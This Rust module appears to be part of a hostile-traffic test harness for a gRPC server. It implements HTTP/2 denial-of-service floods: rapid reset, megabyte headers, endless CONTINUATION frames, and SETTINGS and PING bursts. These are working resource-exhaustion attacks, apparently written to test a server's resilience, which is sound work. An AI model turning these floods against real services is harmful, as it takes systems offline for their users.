//! Frames without end.

use std::io;

use tokio::task::JoinSet;

use crate::hostile::{
    sorts::Assault,
    wire::{self, END_HEADERS, END_STREAM, Wire, frame, sort},
};

const ATTACKERS: usize = 8;

const LIST: &str = "/nimbus.v1.Bus/List";

/// Frames, or calls, that are written at once.
const BURST: usize = 256;

/// Writes bursts of so many until the connection ends, and reads nothing, or everything.
async fn flood(assault: &Assault, reads: bool, count: usize, mut burst: impl FnMut() -> Vec<u8>) -> io::Result<()> {
    let Wire { mut reading, mut writing } = assault.open(&[]).await?;
    let write = async {
        loop {
            writing.write(&burst()).await?;
            assault.sent(count);
        }
    };
    let read = async {
        if !reads {
            std::future::pending::<()>().await;
        }
        loop {
            wire::next_frame(&mut reading).await?;
        }
    };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

pub(crate) fn rapid_reset(assault: &Assault) -> JoinSet<()> {
    assault.again(ATTACKERS, |assault, _| async move {
        let (call, cancel) = (wire::call(LIST), 8_u32.to_be_bytes());
        let mut stream = 1;
        flood(&assault, true, BURST, || {
            (0..BURST)
                .flat_map(|_| {
                    let both = [
                        frame(sort::HEADERS, END_HEADERS | END_STREAM, stream, &call),
                        frame(sort::RST_STREAM, 0, stream, &cancel),
                    ];
                    stream += 2;
                    both.concat()
                })
                .collect()
        })
        .await
    })
}

/// Whole calls whose metadata is a megabyte.
pub(crate) fn giant_headers(assault: &Assault) -> JoinSet<()> {
    assault.again(ATTACKERS, |assault, _| async move {
        let value = "x".repeat(1 << 20);
        let block = [wire::call(LIST), wire::block(&[("nimbus-identity", &value)])].concat();
        let mut stream = 1;
        flood(&assault, true, 1, || {
            let mut parts = block.chunks(16 << 10).peekable();
            let mut frames = Vec::new();
            let mut first = true;
            while let Some(part) = parts.next() {
                let end = if parts.peek().is_none() { END_HEADERS } else { 0 };
                let (what, flags) = if first { (sort::HEADERS, END_STREAM | end) } else { (sort::CONTINUATION, end) };
                frames.extend(frame(what, flags, stream, part));
                first = false;
            }
            stream += 2;
            frames
        })
        .await
    })
}

/// One header block that has no end, in parts of one kilobyte or of nothing.
pub(crate) fn continuations(assault: &Assault) -> JoinSet<()> {
    assault.again(ATTACKERS, |assault, at| async move {
        let field = wire::block(&[("x", &"y".repeat(1_000))]);
        let part = if at % 2 == 0 { &field[..] } else { &[] };
        let mut begun = false;
        flood(&assault, true, BURST, || {
            let first = if begun { Vec::new() } else { frame(sort::HEADERS, END_STREAM, 1, &wire::call(LIST)) };
            begun = true;
            let more = (0..BURST).flat_map(|_| frame(sort::CONTINUATION, 0, 1, part));
            first.into_iter().chain(more).collect()
        })
        .await
    })
}

pub(crate) fn settings(assault: &Assault) -> JoinSet<()> {
    assault.again(ATTACKERS, |assault, _| async move {
        let burst = wire::settings(&[(wire::INITIAL_WINDOW_SIZE, 65_535)]).repeat(BURST);
        flood(&assault, false, BURST, || burst.clone()).await
    })
}

pub(crate) fn pings(assault: &Assault) -> JoinSet<()> {
    assault.again(ATTACKERS, |assault, _| async move {
        let burst = frame(sort::PING, 0, 0, &[7; 8]).repeat(BURST);
        flood(&assault, false, BURST, || burst.clone()).await
    })
}
